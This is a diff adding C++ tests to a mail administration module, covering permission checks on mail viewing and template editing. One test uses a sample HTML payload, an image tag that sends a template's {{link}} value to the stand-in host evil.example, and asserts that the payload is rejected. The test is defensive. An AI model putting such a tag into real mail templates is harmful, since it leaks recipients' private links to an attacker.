@@ -329,6 +329,22 @@ TEST_P(MailArea, ShowsAMailWithoutItsTextToWhoMayNotSeeContacts) {
     EXPECT_EQ(count("SELECT COUNT(1) FROM kernel_audit WHERE action = 'MAIL_VIEWED'"), 2);
 }
 
+TEST_P(MailArea, ShowsInAMailsBodyAndSubjectNoNamesThatThePageHides) {
+    const auto id = queue();
+    db().write([&](sdk::Transaction& tx) {
+        tx.execute("UPDATE kernel_mail SET subject = 'A certificate for Ada' WHERE id = $1", id);
+    });
+    auto contacts = boss();
+    contacts.viewer =
+        sdk::Viewer({.personId = "cabc-abcdefghjkmn", .permissions = {"mail.view", "participants.view.contact"}});
+    contacts.pathValues = {{"id", id}};
+    const auto page = call("GET", "/admin/mail/{id}", contacts);
+    EXPECT_EQ((page.pageContent->title + page.pageContent->data.dump()).find("Ada"), std::string::npos);
+    EXPECT_THROW(call("GET", "/admin/mail/{id}/html", contacts), sdk::Forbidden);
+    const auto list = call("GET", "/admin/mail", contacts);
+    EXPECT_EQ(list.pageContent->data.dump().find("for Ada"), std::string::npos);
+}
+
 TEST_P(MailArea, FindsAPersonsMailAcrossTheirAddresses) {
     queue("ada@example.org");
     queue("ada.lovelace@example.com");
@@ -376,6 +392,44 @@ TEST_P(MailArea, RefusesAWordingWithMistakesBesideTheField) {
     EXPECT_EQ(fields["body_text"]["error"], "Line 1: there is no variable “naem”.");
     EXPECT_EQ(fields["body_html"]["error"], "Line 2: values are always escaped; write {{name}}.");
     EXPECT_EQ(count("SELECT COUNT(1) FROM kernel_mail_template"), 0);
+}
+
+TEST_P(MailArea, LetsOnlySystemAdministratorsChangeAWordingThatLetsItsReaderIn) {
+    const std::string one = "/admin/mail/templates/{owner}/{name}", at = one + "/versions/{version}";
+    auto editor = boss();
+    editor.viewer = sdk::Viewer({.personId = "cabc-abcdefghjkmn", .permissions = {"mail.templates.edit"}});
+    editor.pathValues = {{"owner", "kernel"}, {"name", "news"}, {"version", "1"}};
+    editor.form = {{"subject", "Ours"}, {"body_text", "Hi {{name}}"}};
+    EXPECT_EQ(call("GET", one, editor).pageContent->data["may_change"], false);
+    EXPECT_THROW(call("POST", one, editor), sdk::Forbidden);
+    editor.viewer = boss().viewer;
+    EXPECT_EQ(call("POST", one, editor).statusCode, 303);
+    editor.viewer = sdk::Viewer({.personId = "cabc-abcdefghjkmn", .permissions = {"mail.templates.edit"}});
+    EXPECT_EQ(call("GET", at, editor).pageContent->data["activate_url"], "");
+    EXPECT_THROW(call("POST", at + "/activate", editor), sdk::Forbidden);
+    EXPECT_THROW(call("POST", one + "/default", editor), sdk::Forbidden);
+}
+
+TEST_P(MailArea, PutsNoWordingInUseThatGivesALinkAway) {
+    const std::map<std::string, std::string, std::less<>> news{{"owner", "kernel"}, {"name", "news"}};
+    auto version = news;
+    version["version"] = "1";
+    const std::string one = "/admin/mail/templates/{owner}/{name}", at = one + "/versions/{version}";
+    const std::string evil = "<img src=\"https://evil.example/?{{link}}\">";
+    const auto answer = post(one, {{"subject", "Ours"}, {"body_text", "Hi"}, {"body_html", evil}}, news);
+    EXPECT_EQ(answer.pageContent->status, 422);
+    EXPECT_NE(answer.pageContent->data["form"]["field"]["body_html"]["error"].get<std::string>().find(
+                  "{{…}} may stand in “src”"),
+              std::string::npos);
+    // One that was saved before there was a check.
+    db().write([&](sdk::Transaction& tx) {
+        TemplateRepository().addDraft(tx, "kernel/mail/news", {"Ours", "Hi", evil}, "", clock_.now());
+    });
+    auto parts = boss();
+    parts.pathValues = version;
+    EXPECT_NE(call("GET", at, parts).pageContent->data["unsafe"], "");
+    EXPECT_THROW(post(at + "/activate", {}, version), sdk::Conflict);
+    EXPECT_THROW(post(at + "/test", {}, version), sdk::Conflict);
 }
 
 TEST_P(MailArea, AddsAndReleasesAddressesByHand) {
